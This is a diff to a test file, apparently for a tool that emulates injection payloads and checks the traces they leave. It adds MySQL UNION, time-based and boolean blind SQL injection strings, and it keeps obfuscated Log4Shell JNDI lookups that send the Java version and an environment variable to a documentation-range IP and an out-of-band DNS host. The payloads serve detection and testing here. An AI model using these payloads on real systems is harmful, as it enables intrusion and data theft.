@@ -192,6 +192,17 @@ def main():
     _, jndi, _ = emulate('${${lower:J}ndi:${env:NOPE:-l}dap://203.0.113.7:1389/${sys:java.version}}', language='jndi')
     validate(jndi)
     check('a look-up leaves its connection', [t['pattern'] for t in traces(jndi, 'connect')] == ['203.0.113.7:1389'])
+    _, sql, _ = emulate("1' UNION SELECT NULL,concat(0x71,version(),md5(31337),0x6a6b)-- -", language='sql-mysql')
+    validate(sql)
+    check('what a union computes is told, with a hole for what only the victim knows',
+          any(re.search(t['pattern'], 'q10.11.6-MariaDB6f3249aa304055d63828af3bfab778f6jk') and t['bits'] > 60 for t in traces(sql, 'text')), sql['traces'])
+    _, sql, _ = emulate("1') AND IF(1=1,SLEEP(5),0)#", language='sql-mysql')
+    check('a wait has its seconds', [t['pattern'] for t in traces(sql, 'delay')] == ['5.000 s'], sql['traces'])
+    for fragment, truth in (("1 AND 7219=7219", 'true'), ("1' AND 'a'='b", 'false'), ("1 AND ascii(user())>64", 'open')):
+        _, sql, _ = emulate(fragment, language='sql-mysql')
+        check(f'{fragment}: {truth}', [t['pattern'] for t in traces(sql, 'truth')] == [truth], sql['traces'])
+    _, sql, _ = emulate('2 or 4 buttons', language='sql-mysql')
+    check('ordinary text leaves nothing', sql['traces'] == [], sql['traces'])
     _, jndi, _ = emulate('${jndi:dns://x.example/${env:USER}.k7q2x.oast.example}', language='auto')
     check('a name with a part of the victim is a pattern',
           any(re.fullmatch(t['pattern'], 'tomcat.k7q2x.oast.example') for t in traces(jndi, 'dns')), jndi['traces'])
@@ -200,9 +211,9 @@ def main():
     validate(path)
     check('a traversal shows the file', traces(path, 'text') and not any(t['must_show'] for t in path['traces']))
 
-    code, nothing, said = emulate("SELECT 1", language='sql-oracle')
+    code, nothing, said = emulate('body', language='html')
     validate(nothing)
-    check('what nothing here runs is said', code == 1 and nothing['stopped_by'] == 'unsupported' and 'sql-oracle' in said)
+    check('what nothing here runs is said', code == 1 and nothing['stopped_by'] == 'unsupported' and 'html' in said)
 
     code, endless, _ = emulate('while :; do :; done')
     validate(endless)
